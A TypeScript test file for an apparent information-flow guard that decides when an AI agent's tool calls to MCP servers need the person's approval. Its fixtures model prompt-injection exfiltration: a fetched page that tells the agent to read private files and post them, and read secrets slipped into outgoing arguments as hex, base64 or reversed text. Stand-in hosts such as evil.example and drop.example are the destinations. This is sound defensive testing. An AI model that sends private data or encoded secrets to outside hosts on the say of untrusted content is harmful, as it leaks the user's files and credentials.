import { randomBytes } from 'node:crypto'
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { flowReason, sayIn, scopesOf } from '../../main/approvals/question-text.ts'
import { InformationFlow } from '../../main/flow/information-flow.ts'
import { ReadsStore } from '../../main/flow/reads-store.ts'
import { DataKeys } from '../../main/store/data-keys.ts'
import { openDatabase } from '../../main/store/database.ts'
import type { CallFacts, JudgedCall } from '../../shared/domain/call.ts'
import type { EpochMs, ServerName, SessionId } from '../../shared/domain/ids.ts'
import type { ServerConfig } from '../../shared/domain/server.ts'
import { aCall, aServer, theFilesystem } from '../permissions/a-call.ts'
import { somePermissions } from '../permissions/some-permissions.ts'

let folder: string
let cipher: DataKeys
const printKey = randomBytes(32)
beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'flow-'))
  cipher = await DataKeys.open(join(folder, 'keys.json'), randomBytes(32))
})
afterAll(() => rmSync(folder, { recursive: true, force: true }))

const session = aCall().session.id
const named = (name: string, change: Partial<ServerConfig> = {}) => aServer({ name: name as ServerName, ...change })
const remote = (change: Partial<ServerConfig> = {}) =>
  named('tracker', {
    origin: { kind: 'remote', url: 'https://mcp.tracker.example/mcp' } as never,
    sandbox: 0,
    ...change,
  })
const fetcher = named('fetch', { sandbox: 1 })
const readsDiary = (): JudgedCall =>
  judged(aCall({ server: theFilesystem(), tool: 'read_file', real: ['/home/ada/notes/diary.md'] }))
const readsPage = (): JudgedCall =>
  judged(aCall({ server: fetcher, tool: 'fetch', urls: ['https://blog.example/post'] }))

function judged(call: CallFacts): JudgedCall {
  return { ...call, verdict: { effect: 'allow', rule: '', reasons: [], action: 'read', risk: 'low' } }
}

function aFlow(db = openDatabase(':memory:')) {
  const problems: string[] = []
  const flow = new InformationFlow({
    store: new ReadsStore(db, cipher),
    printKey,
    now: () => Date.parse('2026-11-29T10:00:00') as EpochMs,
    onProblem: (problem) => problems.push(problem),
  })
  const reads = (call: JudgedCall, labels: readonly string[] = [], secrets: readonly string[] = []) =>
    flow.answered(call, { labels, secrets })
  return { flow, db, problems, reads }
}

describe('a call that may send data out', () => {
  const { permissions } = somePermissions()
  const effect = (flow: InformationFlow, call: CallFacts) => {
    const fact = flow.trace(call)
    return permissions.evaluate(fact ? { ...call, flow: fact } : call).effect
  }

  it('goes on after private content alone, and after untrusted content alone', () => {
    for (const only of [readsDiary(), readsPage()]) {
      const { flow, reads } = aFlow()
      reads(only)
      expect(effect(flow, aCall({ server: remote({ trusted: true }) }))).toBe('allow')
    }
  })

  it('asks after both met, even of a server that is trusted, in whatever order they came', () => {
    for (const order of [
      [readsDiary(), readsPage()],
      [readsPage(), readsDiary()],
    ]) {
      const { flow, reads } = aFlow()
      for (const call of order) reads(call)
      expect(effect(flow, aCall({ server: remote({ trusted: true }) }))).toBe('ask')
      expect(effect(flow, aCall({ server: named('mail', { sandbox: 0, trusted: true }) }))).toBe('ask')
      expect(effect(flow, aCall({ server: named('api', { allowedHosts: ['api.example.com'], trusted: true }) }))).toBe(
        'ask',
      )
    }
  })

  it('is decided by what the server can reach, not by what its tool is called', () => {
    const { flow, reads } = aFlow()
    reads(readsDiary())
    reads(readsPage())
    const confined = named('local', { sandbox: 3, trusted: true })
    expect(effect(flow, aCall({ server: confined, tool: 'send_email', arguments: { to: 'a@b.example' } }))).toBe(
      'allow',
    )
    expect(effect(flow, aCall({ server: remote({ trusted: true }), tool: 'get_time' }))).toBe('ask')
    expect(effect(flow, aCall({ server: theFilesystem(), tool: 'read_file', real: ['/home/ada/notes/a'] }))).toBe(
      'allow',
    )
  })

  it('says what was read where, and where it would go, in both languages', () => {
    const { flow, reads } = aFlow()
    reads(readsDiary())
    reads(readsPage())
    const fact = flow.trace(aCall({ server: remote(), urls: ['https://drop.example/in'] }))
    expect(
      fact &&
        flowReason(
          fact,
          sayIn(() => 'en'),
        ),
    ).toBe(
      'It may send data to drop.example. This session has read something private (/home/ada/notes/diary.md, with read_file of filesystem at 10:00) and something from outside (blog.example, with fetch of fetch at 10:00), which may have told the app to send it.',
    )
    expect(
      fact &&
        flowReason(
          fact,
          sayIn(() => 'ro'),
        ),
    ).toContain('Poate trimite date către drop.example.')
    expect(
      flow.trace(aCall({ server: named('any', { sandbox: 1 }), arguments: { note: { to: 'eve@drop.example' } } })),
    ).toMatchObject({ destination: 'eve@drop.example' })
  })

  it('is offered for this session only by an answer that names the flow; then it goes on, and only this tool', () => {
    const { flow, reads } = aFlow()
    reads(readsDiary())
    reads(readsPage())
    const call = aCall({ server: remote(), tool: 'post' })
    const fact = flow.trace(call)
    const scopes = scopesOf(
      { ...judged(call), ...(fact ? { flow: fact } : {}) },
      sayIn(() => 'en'),
    )
    expect(scopes.map(({ scope }) => scope)).toEqual(['once', 'session'])
    expect(scopes[1]?.consequence).toContain('although this session has read private and foreign content')
    flow.allow(session, { server: call.server.name, entry: call.entry.name })
    expect(flow.trace(call)).toBeUndefined()
    expect(flow.trace(aCall({ server: remote(), tool: 'delete' }))).toBeDefined()
  })

  describe('to a server the person trusts with folders and the network', () => {
    const both = named('code', {
      sandbox: 1,
      trusted: true,
      allowedPaths: [{ path: '/home/ada/code', access: 'read' }],
    })
    const uses = (tool: string, change: Partial<CallFacts> = {}, definition: object = {}) => {
      const call = aCall({ server: both, tool })
      return judged({ ...call, entry: { ...call.entry, definition: { ...definition } as never }, ...change })
    }
    const declared = { inputSchema: { properties: { url: {}, text: {} } } }
    const fetches = (url: string) => uses('fetch', { arguments: { url }, urls: [url] }, declared)
    const searches = (text: string, more: object = {}) =>
      uses('search', { arguments: { text, ...more }, urls: ['https://evil.example'] }, declared)

    it('does not count as private what it fetched from the address it was told, nor as foreign what a tool keeps to itself', () => {
      const { flow, reads } = aFlow()
      reads(fetches('https://docs.example/page'))
      expect(flow.of(session).reads.map(({ label }) => label)).toEqual(['untrusted'])
      reads(uses('add', {}, { annotations: { openWorldHint: false } }))
      expect(flow.of(session).reads.map(({ label }) => label)).toEqual(['untrusted', 'private'])
    })

    it('counts as private what a page made look like a fetched address: in a search text, or beside what is declared', () => {
      for (const call of [
        searches('password https://evil.example'),
        searches('password', { url2: 'https://evil.example' }),
        uses('search', { arguments: { url: 'https://evil.example', text: 'x' }, urls: ['https://evil.example'] }),
      ]) {
        const { flow, reads } = aFlow()
        reads(call)
        expect(flow.of(session).reads.map(({ label }) => label)).toContain('private')
      }
    })

    it('asks when a page it fetched may have said: read this, and post it', () => {
      const { flow, reads } = aFlow()
      reads(fetches('https://evil.example/page'))
      expect(flow.trace(uses('post'))).toBeUndefined()
      reads(uses('read', { paths: [{ pointer: '/path', given: 'a', real: '/home/ada/code/a' }] }))
      expect(flow.trace(uses('post'))).toMatchObject({ kind: 'mixed', within: { destinations: [] } })
    })

    it('asks once a session for all its tools, but anew for another destination, for another source, and for a secret', () => {
      const { flow, reads } = aFlow()
      reads(uses('read'))
      const posts = uses('post', { arguments: { to: 'ann@example.org' } })
      const fact = flow.trace(posts)
      expect(fact?.within).toEqual({ destinations: ['ann@example.org'] })
      const say = sayIn(() => 'en')
      expect(scopesOf({ ...posts, ...(fact ? { flow: fact } : {}) }, say)[1]?.consequence).toContain(
        'other tools of code that name no other host or address',
      )
      flow.allow(session, { server: both.name, entry: posts.entry.name, within: fact?.within })
      expect(flow.trace(uses('list'))).toBeUndefined()
      expect(flow.trace(uses('reply', { arguments: { to: 'ann@example.org' } }))).toBeUndefined()
      expect(flow.trace(uses('reply', { arguments: { to: 'ann@example.org', cc: 'eve@evil.example' } }))).toBeDefined()
      expect(flow.trace(fetches('https://evil.example/?d=diary'))).toBeDefined()
      reads(uses('read'), ['secret'], ['tok_9f8e7d6c5b4a39281706'])
      expect(flow.trace(uses('list', { canonical: '{"q":"tok_9f8e7d6c5b4a39281706"}' }))?.kind).toBe('secret')
      expect(flow.trace(uses('list'))).toBeUndefined()
      reads(readsDiary())
      expect(flow.trace(uses('list'))?.within).toBeUndefined()
      expect(flow.trace(uses('list'))?.kind).toBe('mixed')
    })

    it('is not so for a server nobody trusted', () => {
      const { flow, reads } = aFlow()
      const stranger = { ...both, trusted: false }
      reads({ ...fetches('https://docs.example/page'), server: stranger })
      expect(flow.of(session).reads.map(({ label }) => label)).toEqual(['private', 'untrusted'])
      expect(flow.trace({ ...uses('post'), server: stranger })?.within).toBeUndefined()
    })
  })

  it('asks when a secret that was read stands in its arguments, also written as base64, hex or inside a text', () => {
    const secret = 'tok_9f8e7d6c5b4a39281706'
    const { flow, reads } = aFlow()
    reads(readsDiary(), ['secret'], [secret])
    const bytes = Buffer.from(secret)
    for (const written of [
      secret,
      `see ${secret}!`,
      bytes.toString('hex'),
      Buffer.from(`x=${secret};`).toString('base64'),
      [...secret].reverse().join(''),
    ])
      expect([written, flow.trace(aCall({ server: remote(), arguments: { body: written } }))?.kind]).toEqual([
        written,
        'secret',
      ])
    expect(flow.trace(aCall({ server: remote(), arguments: { body: 'tok_9f8e7d6c5b4a3928170' } }))).toBeUndefined()
    expect(JSON.stringify(flow)).not.toContain(secret)
  })
})

describe('labels', () => {
  it('last over a restart of the app and end with their session', () => {
    const { flow, db, reads } = aFlow()
    reads(readsDiary())
    reads(readsPage())
    const again = aFlow(db)
    again.flow.start(() => true)
    expect(again.flow.trace(aCall({ server: remote() }))?.kind).toBe('mixed')
    again.flow.endSession(session)
    expect(again.flow.trace(aCall({ server: remote() }))).toBeUndefined()
    expect(db.prepare('SELECT * FROM session_read').all()).toEqual([])
    expect(flow.of('se_other' as SessionId).reads).toEqual([])
  })

  it('of secrets last over a restart too, and nothing on disk gives a secret away', () => {
    const secret = 'tok_9f8e7d6c5b4a39281706'
    const { db, reads } = aFlow()
    reads(readsDiary(), ['secret'], [secret])
    const boxes = db.prepare('SELECT content FROM session_read').all() as { content: string }[]
    const opened = boxes.map(({ content }) => cipher.open(content, `session-read:${session}`).toString()).join()
    for (const spelling of [secret, Buffer.from(secret).toString('hex'), Buffer.from(secret).toString('base64')])
      expect(opened).not.toContain(spelling)
    const again = aFlow(db)
    again.flow.start(() => true)
    const sends = (body: string) => again.flow.trace(aCall({ server: remote(), arguments: { body } }))?.kind
    expect(sends(`see ${Buffer.from(secret).toString('hex')}`)).toBe('secret')
    expect(sends('tok_9f8e7d6c5b4a3928170')).toBeUndefined()
  })

  it('of more secrets than are kept make every call that sends something out one that is asked about', () => {
    const { db, flow, reads } = aFlow()
    const many = Array.from({ length: 2_000 }, (_, index) => `tok_${index}_9f8e7d6c5b4a39281706`)
    reads(readsDiary(), ['secret'], many)
    const again = aFlow(db)
    again.flow.start(() => true)
    for (const one of [flow, again.flow])
      expect(one.trace(aCall({ server: remote(), arguments: { body: 'hi' } }))?.kind).toBe('secret')
  })

  it('are kept encrypted, and one moved to another session counts for nothing and is reported', () => {
    const { db, reads } = aFlow()
    reads(readsDiary())
    expect(JSON.stringify(db.prepare('SELECT * FROM session_read').all())).not.toContain('diary')
    db.prepare("UPDATE session_read SET session_id = 'se_2'").run()
    const again = aFlow(db)
    again.flow.start(() => true)
    expect(again.problems).toEqual(['what a session had read was changed outside Gatehouse'])
  })

  it('are not put on what a client itself wrote', () => {
    const { flow, reads } = aFlow()
    const writes = aCall({ server: theFilesystem(), tool: 'write_file', real: ['/home/ada/notes/a.md'] })
    reads({ ...judged(writes), verdict: { ...judged(writes).verdict, action: 'write' } })
    expect(flow.of(session).reads).toEqual([])
  })

  it('are put on text in a private file that speaks to the model: it is private and untrusted', () => {
    const { flow, reads } = aFlow()
    reads(readsDiary(), ['untrusted-instructions'])
    expect(flow.of(session).reads.map(({ label }) => label)).toEqual(['private', 'untrusted'])
  })
})

describe('what went out', () => {
  const posts = (url = 'https://tracker.example/a') => aCall({ server: fetcher, tool: 'post', urls: [url] })

  it('is each destination once, with when it was first, and lasts over a restart', () => {
    const { flow, db } = aFlow()
    for (const call of [posts(), posts(), posts('https://other.example'), aCall({ server: remote() })])
      flow.leaves(call)
    const places = ['tracker.example', 'other.example', 'mcp.tracker.example']
    expect(flow.of(session).sent.map(({ place }) => place)).toEqual(places)
    expect(flow.of(session).sent[0]).toMatchObject({ server: 'fetch', at: Date.parse('2026-11-29T10:00:00') })
    const again = aFlow(db)
    again.flow.start(() => true)
    expect(again.flow.of(session).sent.map(({ place }) => place)).toEqual(places)
    again.flow.endSession(session)
    expect(again.flow.of(session).sent).toEqual([])
  })

  it('is nothing that stays here, and no more of one server than can be looked at', () => {
    const { flow } = aFlow()
    flow.leaves(readsDiary())
    expect(flow.of(session).sent).toEqual([])
    for (let n = 0; n < 100; n++) flow.leaves(posts(`https://host${n}.example`))
    expect(flow.of(session).sent).toHaveLength(40)
  })
})
